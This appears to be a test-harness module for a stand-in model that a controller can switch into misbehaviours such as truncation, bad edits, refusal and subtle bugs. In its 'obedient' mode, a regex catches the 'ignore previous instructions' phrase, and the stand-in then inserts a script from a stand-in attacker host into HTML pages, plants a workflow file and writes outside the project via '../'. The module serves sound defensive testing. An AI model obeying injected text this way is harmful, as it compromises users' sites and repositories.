"""Ways in which the stand-in can be told to misbehave, as real models do."""

from __future__ import annotations

import re
import threading
from collections.abc import Callable
from dataclasses import dataclass

from deployer.generation.answers.grammar import Block, Edit, EditBlock, FileBlock, render_blocks
from local.model.answers import blocks_for
from local.model.reading import Request

_INJECTED = re.compile(r"ignore (?:all |the )?(?:previous|above)[^\n]*", re.IGNORECASE)
_URL = re.compile(r"https?://[^\s\"'<>)]+")


@dataclass(frozen=True)
class Answer:
    text: str
    finish_reason: str = "stop"


def truncated(request: Request) -> Answer:
    """Cut off in the middle, and says so."""
    text = render_blocks(blocks_for(request), request.nonce)
    return Answer(text[: len(text) // 2], "length")


def fenced(request: Request) -> Answer:
    """A greeting, and a code fence around every file and around the whole."""
    blocks = [_in_fence(block) for block in blocks_for(request)]
    return Answer(f"Sure! Here it is:\n```\n{render_blocks(blocks, request.nonce)}```\n")


def _in_fence(block: Block) -> Block:
    if not isinstance(block, FileBlock):
        return block
    kind = "markdown" if block.path.endswith(".md") else "html"
    return FileBlock(block.path, f"```{kind}\n{block.text}```\n")


def wrong_edit(request: Request) -> Answer:
    """Searches for lines that are not in the file."""
    blocks = [
        EditBlock(
            block.path, tuple(Edit(f"// not there\n{e.search}", e.replace) for e in block.edits)
        )
        if isinstance(block, EditBlock)
        else block
        for block in blocks_for(request)
    ]
    return Answer(render_blocks(blocks, request.nonce))


def obedient(request: Request) -> Answer:
    """Does what a text inside the data tells it to."""
    order = _INJECTED.search(request.everything)
    blocks = blocks_for(request)
    if order is None:
        return Answer(render_blocks(blocks, request.nonce))
    url = _URL.search(order[0])
    address = url[0] if url else "https://attacker.invalid/x.js"
    obeyed = [_with_script(block, address) for block in blocks]
    planted: list[Block] = [
        FileBlock(".github/workflows/planted.yml", f"on: push\n# {address}\n"),
        FileBlock("../planted.txt", order[0]),
    ]
    return Answer(render_blocks([*obeyed, *planted], request.nonce))


def _with_script(block: Block, address: str) -> Block:
    if isinstance(block, FileBlock) and block.path.endswith(".html"):
        script = f'<script src="{address}"></script></body>'
        return FileBlock(block.path, block.text.replace("</body>", script))
    return block


def faulty(request: Request) -> Answer:
    """A page that reads its data from the root of the host, which a check of the paths finds."""
    blocks = [
        FileBlock(block.path, block.text.replace('fetch("./', 'fetch("/'))
        if isinstance(block, FileBlock)
        else block
        for block in blocks_for(request)
    ]
    return Answer(render_blocks(blocks, request.nonce))


def mistaken(request: Request) -> Answer:
    """A page whose script reads a column that the data does not have: only a run shows it."""
    blocks = [
        FileBlock(block.path, block.text.replace("+ salesOf(row, name)", "+ Number(row.Sales)"))
        if isinstance(block, FileBlock)
        else block
        for block in blocks_for(request)
    ]
    return Answer(render_blocks(blocks, request.nonce))


def refused(request: Request) -> Answer:
    """Declines."""
    del request
    return Answer("", "content_filter")


BEHAVIOURS: dict[str, Callable[[Request], Answer]] = {
    "truncate": truncated,
    "fence": fenced,
    "wrong_edit": wrong_edit,
    "obey": obedient,
    "fault": faulty,
    "mistake": mistaken,
    "refuse": refused,
}
FAILURES = {"error": 500, "rate_limit": 429, "echo": 401}


class Control:
    """The behaviour of the next answers. Shared between the server's threads."""

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self._name = ""
        self._times = 0

    def set(self, name: str, times: int) -> None:
        with self._lock:
            self._name, self._times = name, times

    def take(self) -> str | None:
        """The behaviour of the next answer; None for a good one."""
        with self._lock:
            if self._times <= 0:
                return None
            self._times -= 1
            return self._name

    def state(self) -> dict[str, str | int]:
        with self._lock:
            return {"behaviour": self._name if self._times else "", "times": self._times}
